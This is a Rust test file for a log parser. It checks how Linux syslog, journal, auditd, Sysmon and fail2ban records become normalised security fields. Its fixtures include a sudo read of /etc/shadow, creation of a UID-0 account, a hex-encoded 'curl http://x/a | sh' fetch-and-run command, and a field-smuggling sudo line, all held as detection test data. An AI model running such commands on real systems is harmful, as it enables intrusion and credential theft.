//! What programs of a Linux host say over syslog and in the journal.

use super::check;

fn line(program: &str, message: &str, wanted: &str) {
    check(&format!("<86>Feb 10 06:55:46 web-1 {program}: {message}"), wanted);
}

#[test]
fn sudo_says_who_ran_what_as_whom() {
    line(
        "sudo[812]",
        "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow",
        "event.action=sudo
         event.outcome=success
         user.name=alice
         user.effective.name=root
         process.command_line=/usr/bin/cat /etc/shadow
         process.executable=/usr/bin/cat
         process.working_directory=/home/alice
         dataset=sudo
         class=linux//sudo",
    );
    line(
        "sudo",
        "bob : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c a;b ; TTY=x",
        "event.outcome=failure
         event.reason=3 incorrect password attempts
         user.name=bob
         process.command_line=/bin/sh -c a;b ; TTY=x",
    );
    line(
        "sudo",
        "eve : user NOT in sudoers ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/ls",
        "event.outcome=failure\nevent.reason=user NOT in sudoers\nuser.name=eve",
    );
    line(
        "sudo",
        "pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)",
        "event.action=session_opened\nuser.name=root\ndataset=sudo",
    );
}

#[test]
fn su_and_login_say_who_became_whom() {
    line(
        "su",
        "(to root) alice on pts/0",
        "event.action=su\nevent.outcome=success\nuser.name=alice\nuser.effective.name=root\nclass=linux//auth",
    );
    line(
        "su",
        "FAILED SU (to root) alice on pts/0",
        "event.outcome=failure\nuser.name=alice\nuser.effective.name=root",
    );
    line(
        "su",
        "Successful su for root by alice",
        "event.outcome=success\nuser.name=alice\nuser.effective.name=root",
    );
    line(
        "su",
        "+ /dev/pts/2 alice:root",
        "event.outcome=success\nuser.name=alice\nuser.effective.name=root",
    );
    line(
        "login[77]",
        "FAILED LOGIN (1) on '/dev/tty1' FOR 'root', Authentication failure",
        "event.action=login\nevent.outcome=failure\nuser.name=root\nevent.reason=Authentication failure",
    );
    line(
        "login[77]",
        "ROOT LOGIN  on '/dev/tty1'",
        "event.outcome=success\nuser.name=root\nclass=linux/authentication/;/authentication/;linux//auth",
    );
    line(
        "login[77]",
        "LOGIN ON tty1 BY alice FROM 192.0.2.9",
        "event.outcome=success\nuser.name=alice\nsource.ip=192.0.2.9",
    );
}

#[test]
fn programs_that_manage_accounts_name_whom_they_change() {
    line(
        "useradd[9]",
        "new user: name=mallory, UID=0, GID=0, home=/home/mallory, shell=/bin/bash, from=/dev/pts/0",
        "event.category=iam
         event.action=user_added
         user.target.name=mallory
         accounts.uid=0
         accounts.shell=/bin/bash
         dataset=auth
         class=linux//auth",
    );
    line(
        "groupadd[9]",
        "new group: name=ops, GID=1002",
        "event.action=group_added\ngroup.name=ops",
    );
    line(
        "usermod[9]",
        "add 'mallory' to group 'sudo'",
        "event.action=group_member_added\nuser.target.name=mallory\ngroup.name=sudo",
    );
    line(
        "usermod[9]",
        "add 'mallory' to shadow group 'sudo'",
        "event.action=group_member_added\ngroup.name=sudo",
    );
    line(
        "gpasswd[9]",
        "user mallory added by root to group wheel",
        "event.action=group_member_added\nuser.target.name=mallory\nuser.name=root\ngroup.name=wheel",
    );
    line(
        "userdel[9]",
        "delete user 'mallory'",
        "event.action=user_deleted\nuser.target.name=mallory",
    );
    line(
        "passwd[9]",
        "password for 'root' changed by 'root'",
        "event.action=password_changed\nuser.target.name=root\nuser.name=root",
    );
    line(
        "passwd[9]",
        "pam_unix(passwd:chauthtok): password changed for bob",
        "event.action=password_changed\nevent.category=iam\nuser.name=bob",
    );
    line(
        "sshd[9]",
        "pam_faillock(sshd:auth): Consecutive login failures for user bob account temporarily locked",
        "event.action=account_locked\nuser.name=bob\nevent.outcome=-",
    );
    line(
        "chage[9]",
        "changed password expiry for bob",
        "event.action=password_expiry_changed\nuser.target.name=bob",
    );
}

#[test]
fn cron_systemd_and_the_kernel() {
    line(
        "CRON[77]",
        "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)",
        "event.action=cron_command
         user.name=root
         process.command_line=cd / && run-parts --report /etc/cron.hourly
         class=linux//cron
         dataset=cron",
    );
    line(
        "crontab[77]",
        "(bob) REPLACE (bob)",
        "event.action=crontab\ncron.action=REPLACE\nuser.name=bob",
    );
    line(
        "systemd[1]",
        "Started nginx.service - A high performance web server.",
        "event.action=unit_started\nsystemd.unit=nginx.service\ndataset=systemd",
    );
    line(
        "systemd[1]",
        "Failed to start Shop.",
        "event.action=unit_failed\nevent.outcome=failure\nsystemd.unit=Shop",
    );
    line(
        "systemd[1]",
        "shop.service: Main process exited, code=exited, status=1/FAILURE",
        "systemd.unit=shop.service\nprocess.exit_code=1",
    );
    line(
        "systemd-logind[5]",
        "New session 5 of user bob.",
        "event.action=session_opened\nsession.id=5\nuser.name=bob\nclass=linux//auth",
    );
    line(
        "kernel",
        "[12345.678901] [UFW BLOCK] IN=eth0 OUT= MAC=00:11:22 SRC=203.0.113.9 DST=192.0.2.1 LEN=40 TOS=0x00 TTL=240 ID=54321 DF PROTO=TCP SPT=43210 DPT=23 WINDOW=65535 SYN URGP=0",
        "event.action=packet_dropped
         event.category=network
         rule.name=UFW BLOCK
         source.ip=203.0.113.9 (SRC)
         source.port=43210 (SPT)
         destination.ip=192.0.2.1 (DST)
         destination.port=23 (DPT)
         network.transport=tcp
         PROTO=TCP
         class=/firewall/;linux//syslog
         dataset=kernel",
    );
    line(
        "kernel",
        "[1.5] Out of memory: Killed process 123 (java) total-vm:1kB",
        "event.action=out_of_memory\nprocess.pid=123\nprocess.target=java",
    );
    line(
        "kernel",
        "shop[77]: segfault at 0 ip 00007f sp 00007f error 4 in libc.so[7f+1]",
        "event.action=segfault\nprocess.target=shop\nprocess.pid=77",
    );
}

#[test]
fn records_of_the_audit_system() {
    check(
        "type=EXECVE msg=audit(1767323045.123:456): argc=3 a0=\"curl\" a1=2D73 a2=\"http\"",
        "at=2026-01-02T03:04:05.123Z
         event.id=456
         type=EXECVE
         a0=curl
         a1=-s
         a2=http
         event.category=process
         class=linux//auditd
         dataset=auditd",
    );
    check(
        "type=SYSCALL msg=audit(1767323045.123:456): arch=c000003e syscall=59 success=yes exit=0 a0=7ffd a1=55 ppid=1 pid=77 auid=1000 uid=0 comm=\"curl\" exe=\"/usr/bin/curl\" key=\"exec\"\u{1d}ARCH=x86_64 SYSCALL=execve AUID=\"alice\" UID=\"root\"",
        "a0=7ffd
         process.name=curl (comm)
         process.executable=/usr/bin/curl (exe)
         process.pid=77 (pid)
         process.parent.pid=1 (ppid)
         user.id=1000 (auid)
         user.name=alice (AUID)
         SYSCALL=execve
         rule.name=exec (key)
         event.outcome=success",
    );
    check(
        "type=PROCTITLE msg=audit(1767323045.123:456): proctitle=6361740061",
        "process.command_line=cat a (proctitle)",
    );
    check(
        "<86>Feb 10 06:55:46 web-1 audispd: node=web-1 type=USER_LOGIN msg=audit(1767323045.123:7): pid=9 uid=0 auid=4294967295 msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.9 terminal=ssh res=failed'",
        "event.action=user_login
         event.category=authentication
         event.outcome=failure
         user.name=root (acct)
         source.ip=203.0.113.9 (addr)
         process.executable=/usr/sbin/sshd (exe)
         class=linux//auditd",
    );
    let denied = "event.outcome=failure\nevent.type=denied";
    check(
        "type=AVC msg=audit(1767323045.123:8): avc:  denied  { read } for  pid=77 comm=\"httpd\" name=\"shadow\" dev=\"sda1\" scontext=system_u:system_r:httpd_t:s0 tcontext=system_u:object_r:shadow_t:s0 tclass=file permissive=0",
        &format!("{denied}\nprocess.name=httpd (comm)\nprocess.pid=77 (pid)"),
    );
    check(
        "type=USER_AVC msg=audit(1767323045.123:9): pid=1 uid=0 msg='avc:  denied  { start } for auid=1000 cmdline=\"x\" exe=\"/usr/lib/systemd/systemd\"'",
        denied,
    );
    check(
        "type=AVC msg=audit(1767323045.123:8): avc:  granted  { setsecparam } for  pid=77 comm=\"denied\"",
        "event.outcome=success\nevent.type=allowed",
    );
    let apparmor = "apparmor=\"DENIED\" operation=\"open\" profile=\"/usr/sbin/cupsd\" name=\"/etc/shadow\" pid=77 comm=\"cupsd\" requested_mask=\"r\" denied_mask=\"r\"";
    check(&format!("type=AVC msg=audit(1767323045.123:8): {apparmor}"), denied);
    check(
        &format!(
            "<5>Feb 10 06:55:46 web-1 kernel: [1.5] audit: type=1400 audit(1767323045.123:8): {apparmor}"
        ),
        denied,
    );
    check(r#"{"type":"AVC","apparmor":"DENIED","comm":"cupsd"}"#, denied);
    check(r#"{"type":"EXECVE","a0":"curl","name":"x"}"#, "class=linux//auditd\na0=curl");
}

#[test]
fn sysmon_for_linux_in_syslog() {
    // In the form of SysmonForLinux 1.3.
    let event = |id: u8, data: &str| {
        format!(
            r#"<14>Jan  2 03:04:05 web-1 sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{{ff032593-a8d3-4f13-b0d6-01fc615a0f97}}"/><EventID>{id}</EventID><Version>5</Version><Level>4</Level><Task>{id}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2026-01-02T03:04:05.678910000Z"/><EventRecordID>35705</EventRecordID><Correlation/><Execution ProcessID="681" ThreadID="681"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web-1.local</Computer><Security UserId="0"/></System><EventData>{data}</EventData></Event>"#
        )
    };
    let data = r#"<Data Name="RuleName">-</Data><Data Name="UtcTime">2026-01-02 03:04:05.678</Data><Data Name="ProcessGuid">{de9527a5-6a3f-616f-a52f-d98154560000}</Data><Data Name="ProcessId">7210</Data><Data Name="Image">/usr/bin/curl</Data><Data Name="FileVersion">-</Data><Data Name="CommandLine">curl -s &quot;http://x/?a=1&amp;b&#61;2&quot; &gt; /tmp/a &bad; &</Data><Data Name="User">root</Data><Data Name="Hashes"/><Data Name="ParentImage">/usr/bin/bash</Data><Data Name="ParentProcessId">7200</Data><Data Name="Image">/bin/forged</Data>"#;
    check(
        &event(1, data),
        "at=2026-01-02T03:04:05.678Z
         dataset=sysmon
         class=linux//sysmon;linux/process_creation/
         event.provider=Linux-Sysmon
         event.code=1 (EventID)
         EventRecordID=35705
         Channel=Linux-Sysmon/Operational
         host.name=web-1
         Computer=web-1.local
         process.executable=/usr/bin/curl (Image)
         process.command_line=curl -s \"http://x/?a=1&b=2\" > /tmp/a &bad; & (CommandLine)
         process.pid=7210 (ProcessId)
         user.name=root (User)
         Hashes=-
         process.parent.executable=/usr/bin/bash (ParentImage)
         process.parent.pid=7200 (ParentProcessId)
         event.category=process",
    );
    check(
        &event(
            3,
            r#"<Data Name="Protocol">tcp</Data><Data Name="SourceIp">10.0.0.4</Data><Data Name="DestinationIp">192.0.2.9</Data><Data Name="DestinationPort">443</Data>"#,
        ),
        "class=linux//sysmon;linux/network_connection/
         source.ip=10.0.0.4 (SourceIp)
         destination.ip=192.0.2.9 (DestinationIp)
         destination.port=443 (DestinationPort)",
    );
    for (id, class) in [(11, "file_event"), (23, "file_delete"), (5, "process_termination")] {
        let class =
            format!("class=linux//sysmon;linux/{class}/\nfile.path=/tmp/a (TargetFilename)");
        check(&event(id, r#"<Data Name="TargetFilename">/tmp/a</Data>"#), &class);
    }
    // Cut off, it is what came.
    check("<14>Jan  2 03:04:05 web-1 sysmon: <Event><System>", "message=<Event><System>\nclass=");
}

#[test]
fn a_record_of_the_journal_is_a_line_of_its_program() {
    check(
        r#"{"__REALTIME_TIMESTAMP":"1767323045678000","_HOSTNAME":"web-1","SYSLOG_IDENTIFIER":"sudo","_PID":"812","_COMM":"sudo","_EXE":"/usr/bin/sudo","_CMDLINE":"sudo ls","PRIORITY":"5","MESSAGE":"alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls"}"#,
        "at=2026-01-02T03:04:05.678Z
         severity=notice
         host.name=web-1 (_HOSTNAME)
         process.name=sudo (SYSLOG_IDENTIFIER)
         process.pid=812 (_PID)
         user.name=alice
         event.action=sudo
         class=linux//sudo",
    );
    check(
        r#"{"_SYSTEMD_UNIT":"shop.service","SYSLOG_IDENTIFIER":"shop","MESSAGE":"{\"level\":\"error\",\"msg\":\"boom\"}"}"#,
        "message=boom\nseverity=error\nprocess.name=shop (SYSLOG_IDENTIFIER)",
    );
}

#[test]
fn a_message_of_the_journal_may_be_bytes() {
    let bytes: Vec<_> = b"(root) CMD (\x1b[1mls)".iter().map(u8::to_string).collect();
    check(
        &format!(
            r#"{{"SYSLOG_IDENTIFIER":"CRON","_HOSTNAME":"web-1","MESSAGE":[{}]}}"#,
            bytes.join(",")
        ),
        "message=(root) CMD (\u{1b}[1mls)
         MESSAGE=(root) CMD (\u{1b}[1mls)
         event.action=cron_command
         user.name=root
         lw.invalid_utf8=-",
    );
    check(
        r#"{"SYSLOG_IDENTIFIER":"shop","MESSAGE":[104,105,255]}"#,
        "message=hi\u{FFFD}\nlw.invalid_utf8=true",
    );
    check(r#"{"SYSLOG_IDENTIFIER":"shop","MESSAGE":[104,1050]}"#, "MESSAGE=104 1050");
}

#[test]
fn fail2ban_says_whom_it_bans() {
    check(
        "2026-01-02 03:04:05,678 fail2ban.actions        [123]: NOTICE  [sshd] Ban 203.0.113.9",
        "at=2026-01-02T03:04:05.678Z
         severity=notice
         event.action=ip_banned
         rule.name=sshd
         source.ip=203.0.113.9
         dataset=fail2ban
         class=linux//fail2ban",
    );
    check(
        "2026-01-02 03:04:05,678 fail2ban.filter         [123]: INFO    [sshd] Found 203.0.113.9 - 2026-01-02 03:04:05",
        "event.action=failure_found\nsource.ip=203.0.113.9",
    );
    line(
        "fail2ban.actions[123]",
        "NOTICE [sshd] Unban 203.0.113.9",
        "event.action=ip_unbanned\nsource.ip=203.0.113.9",
    );
    check(
        "2026-01-02 03:04:05,678 fail2ban.actions        [123]: NOTICE  [sshd] Restore Ban 2001:db8::9",
        "event.action=ip_banned\nsource.ip=2001:db8::9",
    );
}

#[test]
fn only_records_that_say_how_it_ended_have_an_outcome() {
    for (record, wanted) in [
        (
            r#"type=PATH msg=audit(1767323045.678:42): item=0 name="/etc/shadow" mode=0100640 nametype=NORMAL"#,
            "event.outcome=-\nfile.path=/etc/shadow (name)\nmode=0100640",
        ),
        (r#"type=CWD msg=audit(1767323045.678:42): cwd="/root""#, "event.outcome=-"),
        (
            r#"type=SYSCALL msg=audit(1767323045.678:42): arch=c000003e syscall=2 success=no exit=-13 pid=7"#,
            "event.outcome=failure",
        ),
        (
            r#"type=CONFIG_CHANGE msg=audit(1767323045.678:42): op=add_rule list=4 res=0"#,
            "event.outcome=failure",
        ),
        (
            r#"type=CONFIG_CHANGE msg=audit(1767323045.678:42): op=add_rule list=4 res=1"#,
            "event.outcome=success",
        ),
    ] {
        check(record, wanted);
    }
}

#[test]
fn the_arguments_of_a_program_are_its_command_line() {
    check(
        r#"type=EXECVE msg=audit(1767323045.678:42): argc=3 a0="sh" a1="-c" a2=6375726C20687474703A2F2F782F61207C207368"#,
        "process.command_line=sh -c curl http://x/a | sh\na2=curl http://x/a | sh\nargc=3",
    );
}
